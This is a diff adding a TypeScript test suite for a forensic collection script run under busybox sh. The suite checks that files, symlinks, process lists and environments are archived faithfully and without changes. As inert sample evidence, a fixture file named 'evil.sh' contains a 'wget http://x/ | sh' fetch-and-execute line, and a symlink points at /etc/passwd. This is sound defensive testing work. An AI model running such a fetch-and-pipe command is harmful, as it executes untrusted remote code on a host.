@@ -1,0 +1,136 @@
+// The collector's real script, run by the host's busybox sh against a local process standing in for
+// the target: /proc/<pid>/root of a process on this machine is "/", so the paths point into a
+// scratch tree. Its stream goes through CollectArchive as in a real run.
+import { execFileSync, spawn, spawnSync } from 'node:child_process';
+import { chmodSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { CollectArchive, type CollectSummary } from '../../../src/plan/collect-archive';
+import { COLLECT_SCRIPT } from '../../../src/plan/collect-script';
+import { describeIfAvailable } from '../../support/suite-gate';
+
+const busybox = spawnSync('busybox', ['true']).status === 0;
+const describeBusybox = describeIfAvailable('test/unit/plan/collect-script.test.ts', busybox ? '' : 'busybox is not installed', 'apt-get install busybox-static');
+const sha = (b: Buffer | string) => createHash('sha256').update(b).digest('hex');
+
+/** Every file under dir with its mode, mtime and content hash: compared before and after a run. */
+function snapshot(dir: string): Record<string, string> {
+  const out: Record<string, string> = {};
+  const walk = (d: string) => {
+    for (const name of readdirSync(d)) {
+      const p = join(d, name);
+      const st = lstatSync(p);
+      out[p] = `${st.mode} ${st.mtimeMs} ${st.isFile() ? sha(readFileSync(p)) : ''}`;
+      if (st.isDirectory()) walk(p);
+    }
+  };
+  walk(dir);
+  return out;
+}
+
+describeBusybox('the collect script under busybox sh', () => {
+  let root = '';
+  let target: ReturnType<typeof spawn>;
+  beforeAll(() => {
+    root = mkdtempSync(join(tmpdir(), 'ke-collect-script-'));
+    mkdirSync(join(root, 'tmp/sub'), { recursive: true });
+    writeFileSync(join(root, 'tmp/evil.sh'), '#!/bin/sh\nwget http://x/ | sh\n');
+    chmodSync(join(root, 'tmp/evil.sh'), 0o755);
+    writeFileSync(join(root, 'tmp/sub/big'), Buffer.alloc(5000, 7));
+    writeFileSync(join(root, 'tmp/odd\nname'), 'n');
+    symlinkSync('/etc/passwd', join(root, 'tmp/link'));
+    mkdirSync(join(root, 'real'));
+    writeFileSync(join(root, 'real/f'), 'f');
+    symlinkSync(join(root, 'real'), join(root, 'via'));
+    execFileSync('mkfifo', [join(root, 'tmp/fifo')]);
+    // The stand-in target: its command line is what the process list must show.
+    target = spawn('busybox', ['sh', '-c', 'sleep 300; : ke-collect-marker'], { stdio: 'ignore' });
+  });
+  afterAll(() => {
+    target.kill();
+    rmSync(root, { recursive: true, force: true });
+  });
+
+  async function collect(paths: string[], max: number, env = '', pid = target.pid): Promise<{ tar: Buffer; summary: CollectSummary }> {
+    const chunks: Buffer[] = [];
+    const archive = new CollectArchive(
+      { cluster: '', context: '', namespace: '', pod: '', podUid: '', container: '', image: '', imageDigest: '', node: '', time: new Date().toISOString(), user: '', reason: '', pluginVersion: '', collector: { container: '', image: '' }, paths, environment: env === '1', maxBytes: max },
+      (b) => chunks.push(Buffer.from(b)),
+    );
+    const sh = spawn('busybox', ['sh', '-c', COLLECT_SCRIPT], {
+      env: { PATH: '/usr/bin:/bin', COLLECT_PID: String(pid), COLLECT_PATHS: paths.join('\n'), COLLECT_ENV: env, COLLECT_MAX: String(max) },
+      stdio: ['pipe', 'pipe', 'inherit'],
+    });
+    sh.stdout!.on('data', (d: Buffer) => archive.push(d));
+    sh.stdin!.write('go\n');
+    await new Promise((resolve) => sh.on('close', resolve));
+    sh.stdin!.destroy();
+    const summary = archive.finish();
+    return { tar: Buffer.concat(chunks), summary };
+  }
+
+  function extract(tar: Buffer): string {
+    const dir = mkdtempSync(join(tmpdir(), 'ke-collect-out-'));
+    writeFileSync(join(dir, 'a.tar'), tar);
+    execFileSync('tar', ['-xf', 'a.tar'], { cwd: dir });
+    return dir;
+  }
+
+  it('archives files byte for byte, records symlinks without following them, skips what it cannot read, and changes nothing', async () => {
+    const before = snapshot(root);
+    const { tar, summary } = await collect([`${root}/tmp`, `${root}/absent`, `${root}/via/f`], 1 << 20);
+    expect(snapshot(root)).toEqual(before);
+    expect(summary).toMatchObject({ complete: true, facts: { 'target-pid': String(target.pid), 'collector-uid': String(process.getuid!()) } });
+    const out = extract(tar);
+    try {
+      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/evil.sh`), 'utf8')).toBe('#!/bin/sh\nwget http://x/ | sh\n');
+      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/sub/big`))).toEqual(Buffer.alloc(5000, 7));
+      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/odd\nname`), 'utf8')).toBe('n');
+      expect(lstatSync(join(out, `evidence/rootfs${root}/tmp/evil.sh`)).mode & 0o777).toBe(0o755);
+      const entries = Object.fromEntries(summary.entries.map((e) => [e.source ?? e.path, e]));
+      expect(entries[`${root}/tmp/link`]).toMatchObject({ type: 'symlink', linkTarget: '/etc/passwd' });
+      for (const e of summary.entries.filter((x) => x.sha256 && x.path !== 'evidence/manifest.json' && x.path !== 'evidence/SHA256SUMS'))
+        expect(sha(readFileSync(join(out, e.path)))).toBe(e.sha256);
+      expect(summary.skipped).toEqual(
+        expect.arrayContaining([
+          { path: `${root}/tmp/fifo`, reason: 'special-file' },
+          { path: `${root}/absent`, reason: 'absent' },
+          { path: `${root}/via/f`, reason: 'through-symlink' },
+        ]),
+      );
+      const ps = readFileSync(join(out, 'evidence/collected/processes.tsv'), 'utf8').split('\n');
+      expect(ps[0]).toBe('PID\tPPID\tUID\tUSER\tSTARTED\tCOLLECTOR\tCOMMAND');
+      const line = ps.find((l) => l.startsWith(`${target.pid}\t`))!;
+      expect(line).toMatch(new RegExp(`^${target.pid}\\t\\d+\\t${process.getuid!()}\\t\\S*\\t\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ\\t(yes|no)\\tbusybox sh -c sleep 300; : ke-collect-marker $`));
+      expect(readFileSync(join(out, 'evidence/collected/mountinfo'), 'utf8')).toMatch(/ \/ /);
+    } finally {
+      rmSync(out, { recursive: true, force: true });
+    }
+  });
+
+  it('stays under --max-size: a file that does not fit is skipped and recorded, later ones that fit are kept', async () => {
+    const { tar, summary } = await collect([`${root}/tmp/sub/big`, `${root}/tmp/evil.sh`], 200);
+    expect(summary.complete).toBe(true);
+    expect(summary.contentBytes).toBeLessThanOrEqual(200);
+    expect(summary.skipped).toEqual(expect.arrayContaining([{ path: `${root}/tmp/sub/big`, reason: 'max-size' }]));
+    const out = extract(tar);
+    try {
+      expect(readFileSync(join(out, `evidence/rootfs${root}/tmp/evil.sh`), 'utf8')).toContain('wget');
+    } finally {
+      rmSync(out, { recursive: true, force: true });
+    }
+  });
+
+  it('reads the environment of the target processes only with COLLECT_ENV=1', async () => {
+    const without = await collect([], 1 << 20);
+    expect(without.summary.entries.some((e) => e.path.endsWith('/environ'))).toBe(false);
+    const withEnv = await collect([], 1 << 20, '1');
+    expect(withEnv.summary.entries.some((e) => e.path.endsWith('/environ'))).toBe(true);
+  });
+
+  it('stops with a fatal record, before anything else, when the target root cannot be read', async () => {
+    const { summary } = await collect([`${root}/tmp`], 1 << 20, '', 999_999_999);
+    expect(summary).toMatchObject({ complete: false, fatal: 'unreadable-root', entries: [expect.objectContaining({ path: 'evidence/header.json' }), expect.objectContaining({ path: 'evidence/SHA256SUMS' })] });
+  });
+});
